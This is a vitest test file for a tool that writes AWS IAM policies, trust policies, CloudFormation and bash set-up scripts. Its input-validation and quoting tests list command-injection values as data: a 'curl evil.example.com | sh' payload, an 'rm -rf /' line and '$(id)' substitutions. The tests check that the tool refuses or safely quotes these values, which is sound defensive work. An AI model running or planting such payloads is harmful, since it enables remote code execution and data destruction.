/** @module What the set-up texts say, in every partition, and that nothing can be smuggled into them. */
import { execFileSync } from 'node:child_process'
import { describe, expect, test } from 'vitest'
import { writeCleanupScript } from '../../../src/core/aws-setup/cleanup-script.js'
import { writeCloudFormation } from '../../../src/core/aws-setup/cloudformation.js'
import { buildPolicy, describeBlocks } from '../../../src/core/aws-setup/policy.js'
import { quote } from '../../../src/core/aws-setup/shell-parts.js'
import { writeShellScript } from '../../../src/core/aws-setup/shell-script.js'
import { buildTrustPolicy, providerArn } from '../../../src/core/aws-setup/trust-policy.js'
import { checked, setupOrder } from './orders.js'

const allBlocks = ['management_account', 'ous_and_tags', 'delegated_administrator'] as const
const guide = [
  'organizations:ListAccounts',
  'organizations:ListAccountsForParent',
  'identitystore:ListUsers',
  'identitystore:ListGroups',
  'identitystore:ListGroupMemberships',
  'sso:DescribeInstance',
  'sso:DescribePermissionSet',
  'sso:ListPermissionSets',
  'sso:ListAccountAssignmentsForPrincipal',
  'sso:ListPermissionSetsProvisionedToAccount',
  'sso:CreateAccountAssignment',
  'sso:DescribeAccountAssignmentCreationStatus',
  'sso:DeleteAccountAssignment',
  'sso:DescribeAccountAssignmentDeletionStatus',
  'iam:AttachRolePolicy',
  'iam:CreateRole',
  'iam:GetRole',
  'iam:ListAttachedRolePolicies',
  'iam:ListRolePolicies',
  'iam:GetSAMLProvider',
  'iam:ListRoles',
]

describe('the policy', () => {
  test('allows everything of the guide without any block', () => {
    const actions = buildPolicy(checked()).Statement.flatMap(({ Action }) => Action)
    expect(guide.filter((action) => !actions.includes(action))).toEqual([])
  })

  test('adds to that only the account whose assignments have limits of their own', () => {
    const actions = buildPolicy(checked()).Statement.flatMap(({ Action }) => Action)
    expect(actions.filter((action) => !guide.includes(action))).toEqual([
      'organizations:DescribeOrganization',
    ])
  })

  test.each([
    ['aws', 'eu-central-1'],
    ['aws-us-gov', 'us-gov-west-1'],
    ['aws-cn', 'cn-north-1'],
  ])(
    'limits every IAM action to what Identity Center made, in the partition %s (T12)',
    (partition, region) => {
      const order = checked({
        instanceArn: `arn:${partition}:sso:::instance/ssoins-6987b2c41e0fa35d`,
        region,
        blocks: allBlocks,
      })
      const iam = buildPolicy(order).Statement.filter(({ Action }) =>
        Action.some((one) => one.startsWith('iam:')),
      )
      expect(iam.length).toBeGreaterThan(3)
      for (const { Action, Resource } of iam) {
        expect(Action.every((one) => one.startsWith('iam:'))).toBe(true)
        for (const arn of Resource) {
          expect([
            `arn:${partition}:iam::*:role/aws-reserved/sso.amazonaws.com/*`,
            `arn:${partition}:iam::*:saml-provider/AWSSSO_*`,
          ]).toContain(arn)
        }
      }
    },
  )

  test('names no action by a pattern, and everything only where AWS knows nothing narrower', () => {
    const { Statement } = buildPolicy(checked({ blocks: allBlocks }))
    expect(Statement.flatMap(({ Action }) => Action).filter((action) => action.includes('*'))).toEqual([])
    const open = Statement.filter(({ Resource }) => Resource.includes('*')).flatMap(({ Action }) => Action)
    expect(open).toEqual([
      'organizations:DescribeOrganization',
      'organizations:ListAccounts',
      'organizations:ListRoots',
    ])
  })

  test('fits into a role, whose policies AWS limits to 10,240 characters', () => {
    const text = JSON.stringify(buildPolicy(checked({ blocks: allBlocks })))
    expect(text.length).toBeLessThan(10_240)
  })

  test('has each block only where it was asked for, and says what each adds', () => {
    expect(describeBlocks(checked())).toEqual([])
    const described = describeBlocks(checked({ blocks: allBlocks }))
    expect(described.map(({ block }) => block)).toEqual([...allBlocks].sort())
    const all = buildPolicy(checked({ blocks: allBlocks })).Statement.flatMap(({ Action }) => Action)
    for (const { says, actions } of described) {
      expect(says).toContain('ithout it')
      expect(actions.every((action) => all.includes(action))).toBe(true)
      expect(guide.filter((action) => actions.includes(action))).toEqual([])
    }
  })
})

test('the trust policy has exactly one audience and one subject, and no pattern (T13)', () => {
  const order = checked()
  const policy = buildTrustPolicy(order, providerArn(order, '123456789012'))
  expect(policy.Statement).toEqual([
    {
      Sid: 'Gatehouse',
      Effect: 'Allow',
      Principal: { Federated: 'arn:aws:iam::123456789012:oidc-provider/id.example.com' },
      Action: 'sts:AssumeRoleWithWebIdentity',
      Condition: {
        StringEquals: {
          'id.example.com:aud': 'sts.amazonaws.com',
          'id.example.com:sub': 'gatehouse:gate.example.com:integration:aws',
        },
      },
    },
  ])
})

describe('an order', () => {
  test('is taken as it is where everything in it is what AWS takes', () => {
    expect(checked()).toMatchObject({ partition: 'aws', instanceId: 'ssoins-6987b2c41e0fa35d' })
  })

  const evil = `x'; curl evil.example.com | sh; '`
  test.each([
    ['instanceArn', evil],
    ['instanceArn', 'arn:aws:sso:::instance/ssoins-6987b2c41e0fa35d\nrm -rf /'],
    ['instanceArn', 'arn:aws-iso:sso:::instance/ssoins-6987b2c41e0fa35d'],
    ['region', `eu-central-1$(id)`],
    ['region', 'cn-north-1'],
    ['roleName', evil],
    ['roleName', '$(id)'],
    ['roleName', ''],
    ['integration', '`id`'],
    ['integration', 'a b'],
    ['audience', `a"b`],
    ['audience', 'a\\b'],
    ['subject', 'abc'],
    ['subject', 'abcdef*'],
    ['subject', '${aws:username}'],
    ['issuer', `https://id.example.com/'`],
    ['issuer', 'https://id.example.com/$(id)'],
    ['issuer', 'ftp://id.example.com'],
  ])('with %s %j is refused, and the field is named', (field, value) => {
    expect(() => checked({ [field]: value })).toThrow(
      expect.objectContaining({
        code: 'INVALID_INPUT',
        details: {
          fields: expect.arrayContaining([expect.objectContaining({ path: `body.${field}` })]) as unknown,
        },
      }) as Error,
    )
  })

  test('tells all its problems at once', () => {
    expect(() => checked({ region: 'x', roleName: '', integration: '' })).toThrow(
      /region .*; roleName .*; integration/,
    )
  })
})

describe('the texts', () => {
  const texts = [
    ['the set-up script', writeShellScript(checked({ blocks: allBlocks }))],
    ['the clean-up script', writeCleanupScript(checked({ blocks: allBlocks }))],
  ] as const

  test.each(texts)('%s is what bash can read', (_, text) => {
    execFileSync('bash', ['-n'], { input: text })
    expect(text).toMatch(/^#!\/usr\/bin\/env bash\n/)
    expect(text).toContain('set -euo pipefail')
  })

  test('the template is JSON with the same trust and permissions', () => {
    const template: unknown = JSON.parse(writeCloudFormation(checked({ blocks: ['ous_and_tags'] })))
    expect(template).toMatchObject({
      Resources: {
        Role: {
          Properties: {
            Policies: [{ PolicyDocument: buildPolicy(checked({ blocks: ['ous_and_tags'] })) }],
            AssumeRolePolicyDocument: {
              Statement: [
                {
                  Condition: { StringEquals: { 'id.example.com:sub': setupOrder.subject } },
                  Principal: {
                    Federated: { 'Fn::If': ['MakesProvider', { Ref: 'Provider' }, expect.anything()] },
                  },
                },
              ],
            },
          },
        },
      },
      Outputs: { RoleArn: { Value: { 'Fn::GetAtt': ['Role', 'Arn'] } } },
    })
  })

  test.each([`a'b`, `'; id; '`, '$(id)', '`id`', '\\', '!x', 'a\nb'])(
    '%j quoted is that word and nothing else',
    (text) => {
      const printed = execFileSync('bash', ['-c', `printf %s ${quote(text)}`], { encoding: 'utf8' })
      expect(printed).toBe(text)
    },
  )
})
